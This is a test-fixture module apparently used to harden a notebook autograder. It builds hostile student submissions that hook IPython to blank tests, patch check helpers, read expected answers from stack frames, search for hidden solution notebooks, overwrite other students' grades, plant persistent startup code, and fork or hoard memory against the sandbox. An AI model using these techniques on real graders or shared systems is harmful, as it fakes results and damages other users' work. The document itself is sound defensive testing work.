"""Submissions written the way a cunning student would, to break the grader (issue: grading that
student code cannot fool). Each returns a notebook made from the released notebook 01; the
attack code goes into the first exercise cell (or a new cell), where a student can put anything.

``ctx`` gives what an attacker could know or guess: the absolute path of the class folder and of
the output folder (an attacker could read them from the worker's job file or /proc), a loopback
port where the test listens, and a marker that names every process and file the attack makes.
"""
from grader import synthetic

A = "01_perceptron"
WRONG_PREDICT = "def predict(w, X):\n    return np.ones(len(X), dtype=int)\n"

ATTACKS = {
    # every later cell becomes `pass`: test cells cannot fail
    "input_transformer": lambda ctx: first_cell(synthetic.blank(A), """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""),
    # the same with an AST transformer that empties every cell
    "ast_transformer": lambda ctx: first_cell(synthetic.blank(A), """
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return node
get_ipython().ast_transformers.append(Empty())
"""),
    # errors are swallowed by a custom exception handler
    "exception_handler": lambda ctx: first_cell(synthetic.blank(A), """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""),
    # a wrong predict, and the check helpers replaced without an attribute assignment
    "checks_vars_update": lambda ctx: first_cell(synthetic.blank(A), WRONG_PREDICT + """
from course_lib import checks as _c
vars(_c).update({n: (lambda *a, **k: None) for n in dir(_c) if n.startswith("check_")})
""", replace=True),
    "checks_globals": lambda ctx: first_cell(synthetic.blank(A), WRONG_PREDICT + """
import types as _t
globals()["checks"] = _t.SimpleNamespace(**{n: (lambda *a, **k: None) for n in
    ["check_close", "check_equal", "check_shape", "check_type", "check_finite", "check_unchanged"]})
""", replace=True),
    # an exception handler for the errors that tests raise
    "assertion_swap": lambda ctx: first_cell(synthetic.blank(A), """
import builtins
class Quiet(Exception):
    pass
get_ipython().set_custom_exc((AssertionError, NotImplementedError, NameError), lambda *a, **k: None)
"""),
    # look for the solution notebook above the working folder, next to course_lib, anywhere
    "find_solution": lambda ctx: last_cell(synthetic.perfect(A), """
import os, sys, course_lib
found = []
for top in ["/", os.path.dirname(os.path.dirname(course_lib.__file__)), os.path.expanduser("~"), "..", "../..", %(sub)r]:
    for folder, dirs, files in os.walk(os.path.abspath(top)):
        if folder.startswith(("/proc", "/sys", "/dev", "/usr", sys.base_prefix, sys.prefix)):
            dirs[:] = []
            continue
        for f in files:
            if f.endswith(".ipynb"):
                try:
                    text = open(os.path.join(folder, f), encoding="utf-8", errors="ignore").read()
                except OSError:
                    continue
                if "test_01_predict" in text and ("BEGIN HIDDEN TESTS" in text or "BEGIN SOLUTION" in text):
                    found.append(os.path.join(folder, f))
                    print(text)
print("found", found)
""" % {"sub": ctx["submissions"]}),
    # print the history: it holds every test cell the kernel ran, hidden tests included
    "print_history": lambda ctx: last_cell(synthetic.perfect(A), """
print("\\n".join(In))
print(repr(_ih))
"""),
    # overwrite classmates' submissions and the results
    "overwrite_others": lambda ctx: last_cell(synthetic.blank(A), """
import os, glob
for path in glob.glob(%(sub)r + "/*/*/*.ipynb") + [%(out)r + "/grades.csv"]:
    try:
        open(path, "w").write("overwritten")
        print("overwrote", path)
    except OSError as e:
        print("could not", path, e)
for folder in ["/tmp", os.path.expanduser("~"), "/"]:
    try:
        open(os.path.join(folder, %(marker)r + ".txt"), "w").write("x")
    except OSError:
        pass
""" % {"sub": ctx["submissions"], "out": ctx["out"], "marker": ctx["marker"]}),
    # a detached process that outlives grading and rewrites grades.csv afterwards
    "detached_process": lambda ctx: last_cell(synthetic.blank(A), """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(8); open(%(grades)r, 'w').write('hacked')",
                  %(marker)r], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""" % {"grades": ctx["out"] + "/grades.csv", "marker": ctx["marker"]}),
    # the network
    "network": lambda ctx: last_cell(synthetic.blank(A), """
import socket
for host in ["127.0.0.1", "localhost"]:
    try:
        s = socket.create_connection((host, %(port)d), timeout=2)
        s.sendall(b"leak")
        print("connected to", host)
    except OSError as e:
        print("no connection:", e)
""" % {"port": ctx["port"]}),
    # persistence: code that would run inside every later student's kernel
    "persistence": lambda ctx: last_cell(synthetic.blank(A), """
import os, sys, site
payload = "import builtins; builtins.%(marker)s = True"
targets = [os.path.join(p, "zz_%(marker)s.pth") for p in site.getsitepackages() + [site.getusersitepackages()]]
targets += [os.path.expanduser("~/.ipython/profile_default/startup/00-%(marker)s.py"),
            os.path.join(sys.prefix, "etc", "ipython", "%(marker)s.py")]
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
        open(t, "w").write(payload)
        print("wrote", t)
    except OSError as e:
        print("could not write", t, e)
""" % {"marker": ctx["marker"]}),
}


# --- the verdict (issue: a judge outside the sandbox) --------------------------------------------------
# Each is written by a student who has read grader/: the test cells run in the judge now, so every
# one of these must earn nothing it did not compute, and leak no hidden line.
HIDDEN_FRAGMENT = "integer-valued data with ties at 0"  # a phrase of test_01_predict's hidden block

# every exercise publishes a number (nbgrader's partial credit) before it raises
PUBLISH = {
    "publish_displayhook": "__import__('sys').displayhook(1.0)",
    "publish_display": "__import__('IPython').display.display(2.0)",
    "publish_payload": "get_ipython().display_pub.publish({'text/plain': '11'})",
}
for _name, _line in PUBLISH.items():
    ATTACKS[_name] = (lambda line: lambda ctx: every_exercise(synthetic.blank(A), line))(_line)

# every exercise returns what the test is about to compare with, found in its caller's frames
READ_CALLER = {
    "read_caller_frames": """
import sys, numpy
best = None
frame = sys._getframe(1)
while frame is not None:
    for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
        if name.startswith("expected") and isinstance(value, numpy.ndarray):
            best = value
    frame = frame.f_back
if best is not None:
    return best
""",
    "read_caller_inspect": """
import inspect, linecache, numpy
for info in inspect.stack():
    for name, value in info.frame.f_locals.items():
        if "expected" in name and isinstance(value, (numpy.ndarray, float, list)):
            return value
    lines = linecache.getlines(info.filename)
    if any("check_equal" in l or "check_close" in l for l in lines):
        print("test source:", lines)
""",
}
for _name, _code in READ_CALLER.items():
    ATTACKS[_name] = (lambda code: lambda ctx: every_exercise(synthetic.blank(A), code))(_code)

# the kernel's replies, numpy and the checks tampered with, in spellings the scan does not know
ATTACKS["kernel_do_execute"] = lambda ctx: first_cell(synthetic.blank(A), """
_k = get_ipython().kernel
async def _ok(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
_k.do_execute = _ok
""")
ATTACKS["numpy_through_gc"] = lambda ctx: first_cell(synthetic.blank(A), WRONG_PREDICT + """
import gc as _gc
for _o in _gc.get_objects():
    if type(_o).__name__ == "module" and getattr(_o, "__name__", "") in ("numpy", "course_lib.checks"):
        for _n in ("allclose", "array_equal", "check_equal", "check_close", "check_shape"):
            if hasattr(_o, _n):
                object.__setattr__(_o, _n, lambda *a, **k: True)
""", replace=True)
ATTACKS["checks_via_import_fromlist"] = lambda ctx: first_cell(synthetic.blank(A), WRONG_PREDICT + """
_m = __import__("course_lib.checks", fromlist=["x"])
for _n in dir(_m):
    if _n.startswith("check_"):
        setattr(_m, _n, lambda *a, **k: None)
_np = __import__("numpy", fromlist=["testing"])
_np.testing.assert_allclose = lambda *a, **k: None
""", replace=True)
ATTACKS["canary_aware_transformer"] = lambda ctx: first_cell(synthetic.blank(A), """
def _pass_tests(lines):
    text = "".join(lines)
    if "checks." in text and "grader check" not in text and "_wrong_" not in text:
        return ["pass\\n"]
    return lines
get_ipython().input_transformers_post.append(_pass_tests)
""")

# every place the hidden tests could be found from inside the kernel, sent out in every encoding
LEAK = """
import base64, gc, linecache, sys
_found = []
def _harvest():
    texts = []
    frame = sys._getframe(0)
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()) + list(frame.f_code.co_consts):
            if isinstance(value, str):
                texts.append(value)
        frame = frame.f_back
    texts += list(globals().get("In", [])) + list(globals().get("_ih", []))
    texts += ["".join(entry[2]) for entry in list(linecache.cache.values()) if len(entry) > 2]
    return texts
"""
LEAK_OUT = """
import base64, gc
texts = _found + _harvest()
for o in gc.get_objects():   # strings are not tracked by gc: look inside everything that is
    if isinstance(o, dict):
        texts += [v for v in list(o.values()) if isinstance(v, str)]
    elif isinstance(o, (list, tuple)):
        texts += [v for v in list(o) if isinstance(v, str)]
    elif type(o).__name__ == "code":
        texts += [v for v in o.co_consts if isinstance(v, str)]

def _count(texts, spelled):  # the phrase is spelled out only here, in a local, after the search
    phrase = bytes.fromhex(spelled).decode()
    return sum(phrase in t for t in texts)
print("LEAKCOUNT", _count(texts, %(fragment_hex)r))
print("CONTROLCOUNT", _count(texts, %(control_hex)r))  # a line the kernel does hold: the search works
blob = base64.b64encode("\\n".join(t for t in texts if "check" in t).encode()).decode()
from IPython.display import display
display({"image/png": blob}, raw=True)
print("\\u200b".join("\\n".join(texts)[:20000]))
class Leak(Exception):
    pass
Leak.__name__ = "".join(texts)[:400].replace("\\n", " ")
raise Leak("\\n".join(texts)[:4000])
"""
ATTACKS["leak_everything"] = lambda ctx: last_cell(every_exercise(synthetic.blank(A), "_found.extend(_harvest())",
                                                                  prelude=LEAK), LEAK_OUT % {
    "fragment_hex": HIDDEN_FRAGMENT.encode().hex(), "control_hex": _first_exercise_line().encode().hex()})


def _first_exercise_line():
    nb = synthetic.blank(A)
    return nb.cells[synthetic.exercise_cells(nb)[0]].source.strip().splitlines()[0]

# --- isolation (issue: one notebook cannot touch another's grading, nor stop the class) -----------------
FIND_RUNTIME = """
import os
def _runtime():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            except OSError:
                continue
            for a in args:
                if a.endswith(b"kernel.json"):
                    return os.path.dirname(a.decode())
    return None
"""
ATTACKS["plant_in_runtime"] = lambda ctx: last_cell(synthetic.blank(A), FIND_RUNTIME + """
r = _runtime()
print("runtime", r)
if r:
    for name in ["planted_%(marker)s", "kernel.json.tmp"]:
        try:
            open(os.path.join(r, name), "w").write("x")
        except OSError as e:
            print("cannot plant", e)
    try:
        os.chmod(r, 0o555)
    except OSError as e:
        print("cannot chmod", e)
""" % {"marker": ctx["marker"]})
ATTACKS["kernel_json_folder"] = lambda ctx: last_cell(synthetic.blank(A), FIND_RUNTIME + """
r = _runtime()
if r:
    try:
        os.unlink(os.path.join(r, "kernel.json"))
        os.mkdir(os.path.join(r, "kernel.json"))
    except OSError as e:
        print("cannot", e)
os._exit(3)
""")
ATTACKS["deep_tree"] = lambda ctx: last_cell(synthetic.blank(A), """
import os
os.chdir(os.path.expanduser("~"))
for i in range(1500):
    os.mkdir("d")
    os.chdir("d")
open("deep_%(marker)s", "w").write("x")
os.chmod(".", 0o500)
os._exit(4)
""" % {"marker": ctx["marker"]})
ATTACKS["worker_descriptors"] = lambda ctx: last_cell(synthetic.blank(A), """
import os
for fd in os.listdir("/proc/self/fd"):
    try:
        print("fd", fd, os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
for fd in os.listdir("/proc/self/fd"):  # write into every file it holds (not its own sockets and pipes)
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("/") and int(fd) > 2:
            os.write(int(fd), b"%(marker)s written into a descriptor\\n")
    except OSError:
        pass
os.write(1, b"%(marker)s on stdout\\n")
os.write(2, b"%(marker)s on stderr\\n")
""" % {"marker": ctx["marker"]})
ATTACKS["memfd_hoard"] = lambda ctx: last_cell(synthetic.perfect(A), """
import os
fds, chunk = [], b"x" * (32 * 2**20)
for i in range(40):          # 1.25 GB with --memory-mb 1024, in files under the 64 MB file-size limit
    fds.append(os.memfd_create(f"hoard{i}"))
    os.write(fds[-1], chunk)
print("held", sum(os.fstat(fd).st_size for fd in fds) // 2**20, "MB")
""")
ATTACKS["shm_hoard"] = lambda ctx: last_cell(synthetic.perfect(A), """
chunk = b"x" * (64 * 2**20)
try:
    with open("/dev/shm/hoard", "wb") as f:
        for i in range(20):
            f.write(chunk)
    print("held in /dev/shm")
except OSError as e:
    print("/dev/shm refused:", e)
""")
ATTACKS["error_flood"] = lambda ctx: last_cell(synthetic.perfect(A), """
ip = get_ipython()
for i in range(200):
    try:
        raise ValueError("E" * 100_000)
    except ValueError:
        ip.showtraceback()
""")
ATTACKS["process_hog"] = lambda ctx: first_cell(synthetic.blank(A), """
import os, time
children = []
try:
    for i in range(400):     # more than the sandbox's process limit: each a forked child that just sleeps
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
except OSError as e:
    print("stopped at", len(children), e)
""")
ATTACKS["scratch_folders"] = lambda ctx: last_cell(synthetic.perfect(A), """
import tempfile
with tempfile.NamedTemporaryFile() as f:
    f.write(b"honest use of tempfile")
with open("/dev/shm/small", "wb") as f:
    f.write(b"x")
print("SCRATCH OK")
""")

ISOLATION = ["plant_in_runtime", "kernel_json_folder", "deep_tree", "worker_descriptors", "memfd_hoard", "shm_hoard",
             "error_flood", "process_hog", "scratch_folders"]


def every_exercise(nb, code, prelude=""):
    """Each exercise cell of the blank notebook with ``code`` before its ``raise NotImplementedError()``."""
    import copy
    nb = copy.deepcopy(nb)
    for index in synthetic.exercise_cells(nb):
        cell = nb.cells[index]
        lines = cell.source.split("\n")
        for i, line in enumerate(lines):
            if line.strip() == "raise NotImplementedError()":
                indent = line[: len(line) - len(line.lstrip())]
                lines[i:i] = [indent + c for c in code.strip("\n").split("\n")]
                break
        cell.source = prelude + "\n".join(lines)
    return nb


def first_cell(nb, code, replace=False):
    """``code`` at the top of the first exercise cell (``replace``: instead of its body)."""
    index = synthetic.exercise_cells(nb)[0]
    if replace:
        nb.cells[index].source = code
        return nb
    return synthetic.with_code_before(nb, index, code)


def last_cell(nb, code):
    return synthetic.with_new_cell(nb, code)
